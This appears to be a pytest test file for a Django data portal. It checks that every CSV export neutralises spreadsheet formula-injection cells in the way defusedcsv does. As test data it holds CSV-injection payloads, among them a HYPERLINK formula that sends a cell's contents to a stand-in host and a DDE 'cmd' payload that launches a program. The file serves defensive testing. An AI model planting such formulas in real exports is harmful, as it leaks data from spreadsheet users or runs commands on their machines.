"""Every CSV the portal writes neutralises cells a spreadsheet would run as a formula.

OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is prefixed with a single quote (defusedcsv), so Excel and LibreOffice show it as
text. Tested through each download a user can reach.
"""

import csv
import io

import pytest

from customers.models.catalogue import Classification
from customers.services.assets import asset_add_customers
from portal.audit import audit_record
from tests.consent.test_sharing import approve_all, share
from tests.customers.conftest import EMAIL_MARKETING, consent
from tests.customers.test_grants import approved_grant
from tests.factories import CustomerFactory, DataAssetFactory

pytestmark = pytest.mark.django_db

SUM = "=1+2"
LINK = '=HYPERLINK("http://x.example/?"&A2,"open")'
PHONE = "+4712345678"


def rows_of(body: bytes | str) -> list[dict]:
    text = body.decode() if isinstance(body, bytes) else body
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def dangerous_asset(owner):
    """Three customers whose name or phone a spreadsheet would run; all agreed to
    marketing e-mail and to third-party sharing."""
    asset = DataAssetFactory(
        owner=owner,
        name="Dangerous list",
        categories=["user.name", "user.contact"],
        collected_for=["essential.service"],
        classification=Classification.INTERNAL,
        classification_confirmed=True,
    )
    people = [
        CustomerFactory(name=SUM, phone=PHONE),
        CustomerFactory(name=LINK, phone="-1+2"),
        CustomerFactory(name="@SUM(A1)", phone="\tcmd"),
    ]
    asset_add_customers(asset=asset, actor=owner, customers=people)
    consent(people)
    consent(people, "third_party_sharing")
    return asset


def assert_neutralised(rows: list[dict]) -> None:
    by_name = {row["name"]: row for row in rows}
    assert set(by_name) == {"'" + SUM, "'" + LINK, "'@SUM(A1)"}
    assert by_name["'" + SUM]["phone"] == "'" + PHONE
    assert by_name["'" + LINK]["phone"] == "'-1+2"
    assert by_name["'@SUM(A1)"]["phone"] == "'\tcmd"


def test_grant_export_through_the_api_neutralises_formula_cells(
    api_client, requester, dangerous_asset
):
    from consent.models import Purpose

    grant = approved_grant(requester, dangerous_asset, Purpose.objects.get(key=EMAIL_MARKETING))
    api_client.force_authenticate(requester)

    response = api_client.get(f"/api/grants/{grant.pk}/export/")

    assert response.status_code == 200
    assert_neutralised(rows_of(b"".join(response.streaming_content)))


def test_sharing_package_neutralises_formula_cells(
    api_client, requester, owner, compliance_officer, legal_counsel, dangerous_asset
):
    shared = share(requester, dangerous_asset, categories=["user.name", "user.contact"])
    package = approve_all(shared, owner, compliance_officer, legal_counsel)
    api_client.force_authenticate(requester)

    response = api_client.get(f"/api/sharing-requests/{package.request_id}/package/")

    assert response.status_code == 200
    assert_neutralised(rows_of(response.content))


def test_audit_csv_neutralises_formula_cells_the_same_way(client, compliance_officer, owner):
    asset = DataAssetFactory(owner=owner, name=LINK)
    audit_record(actor=None, action="notification.retry", target=asset, actor_label=PHONE)
    audit_record(actor=None, action="notification.retry", target=asset, actor_label="\rtext")
    client.force_login(compliance_officer)

    body = b"".join(client.get("/audit/export.csv", {"action": "notification"}).streaming_content)

    rows = rows_of(body)
    assert {row["target_label"] for row in rows} == {"'" + LINK}
    assert {row["actor_label"] for row in rows} == {"'" + PHONE, "'\rtext"}


def test_ordinary_values_and_negative_numbers_are_left_alone():
    from portal.csv_export import csv_text

    text = csv_text(["a", "b", "c"], [{"a": "Kari Nordmann", "b": "-12.5", "c": 7}])

    assert rows_of(text) == [{"a": "Kari Nordmann", "b": "-12.5", "c": "7"}]


def test_the_writer_escapes_every_cell_exactly_as_defusedcsv_does():
    """The one writer hands defusedcsv only the cells that can start a formula (for speed):
    its output must stay what defusedcsv's own writer gives for every other kind of cell."""
    import datetime
    import decimal
    import random

    from defusedcsv import csv as defused

    from portal.csv_export import _Line, safe_writer

    alphabet = "=+-@|%'\\\"a1., ;é\n"
    generator = random.Random(7)
    cells = ["".join(generator.choice(alphabet) for _ in range(generator.randint(0, 6)))]
    cells += [
        "".join(generator.choice(alphabet) for _ in range(generator.randint(0, 6)))
        for _ in range(3000)
    ]
    cells += [None, 0, -3, 2.5, -1e-3, True, decimal.Decimal("-7.10"), datetime.date(2025, 1, 31)]
    cells += ["-1,5", "-.5", "+47 912 34 567", "=1+2", "", "@x", "%d"]

    ours, theirs = safe_writer(_Line()), defused.writer(_Line())
    for cell in cells:
        assert ours.writerow([cell, "x"]) == theirs.writerow([cell, "x"]), repr(cell)


@pytest.mark.parametrize("with_tab_and_cr", [False, True])
def test_the_streaming_writer_is_byte_for_byte_defusedcsvs_writer_in_every_batch(with_tab_and_cr):
    """Exports hand the writer rows in batches and it rewrites only a column holding a cell
    that can start a formula (found by one scan of the column): whatever the mix of cells,
    batches and row shapes, the file must be exactly what defusedcsv's writer gives, and
    with cells starting with a tab or carriage return (which defusedcsv leaves alone) what
    the row-by-row writer gives."""
    import datetime
    import decimal
    import random

    from defusedcsv import csv as defused

    from portal.csv_export import _Line, csv_chunks, safe_writer

    alphabet = "=+-@|%'\\\"a1., ;é\n" + ("\t\r" if with_tab_and_cr else "")
    generator = random.Random(11)

    def text():
        return "".join(generator.choice(alphabet) for _ in range(generator.randint(0, 5)))

    others = [None, 0, -3, 2.5, True, decimal.Decimal("-7.10"), datetime.date(2025, 1, 31)]
    rows = [
        (
            number,  # numbers only
            text(),  # any text
            f"plain {number}" if number % 50 else "=1+2",  # rarely a formula
            generator.choice([*others, text()]),  # mixed kinds
            "a\x00=b" if number % 7 == 0 else "x",  # a NUL inside a cell: a false alarm only
        )
        for number in range(1000)
    ]
    columns = ["id", "text", "rare", "mixed", "nul"]
    reference = safe_writer(_Line()) if with_tab_and_cr else defused.writer(_Line())
    expected = "".join(reference.writerow(row) for row in [columns, *rows])

    for batch_rows in (1, 7, 333, 5000):
        as_tuples = "".join(csv_chunks(columns, rows, size=4096, batch_rows=batch_rows))
        as_dicts = "".join(
            csv_chunks(columns, (dict(zip(columns, row, strict=True)) for row in rows))
        )
        assert as_tuples == as_dicts == expected, batch_rows


def read_as_recipient(cell: str) -> str:
    """The reading rule docs/sharing.md gives a recipient: a cell starting with ``'`` followed by
    one of = + - @ % tab CR, or by ``\\|`` (a ``|`` written escaped): drop the ``'`` and
    read every ``\\|`` in it as ``|``. Any other cell is the value as it is."""
    if cell.startswith(("'=", "'+", "'-", "'@", "'%", "'\t", "'\r", "'\\|")):
        return cell[1:].replace("\\|", "|")
    return cell


@pytest.mark.parametrize(
    "value",
    [
        SUM,
        LINK,
        PHONE,
        "-1+2",
        "=cmd|' /C calc'!A0",
        "|pipe",
        "%APPDATA%",
        "\tcmd|x",
        "\ra\\|b",  # a backslash before a pipe, after a carriage return
        "=a\\|b",
        "a|b",
        "-12.5",
        "Kari Nordmann",
    ],
)
def test_a_recipient_gets_every_value_back_with_the_documented_reading_rule(value):
    from portal.csv_export import csv_text

    (row,) = rows_of(csv_text(["v"], [{"v": value}]))

    assert read_as_recipient(row["v"]) == value


def test_no_csv_is_written_outside_the_one_safe_writer():
    """A guard for code added later: the portal's apps write CSV only through
    ``portal.csv_export`` (the only module that may build a writer or a text/csv answer)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = root / "portal" / "csv_export.py"
    needles = ("csv.writer(", "csv.DictWriter(", 'content_type="text/csv')
    offenders = [
        f"{path.relative_to(root)}: {needle}"
        for app in ("customers", "consent", "incidents", "portal")
        for path in sorted((root / app).rglob("*.py"))
        if path != allowed and "migrations" not in path.parts
        for needle in needles
        if needle in path.read_text(encoding="utf-8")
    ]
    assert offenders == []
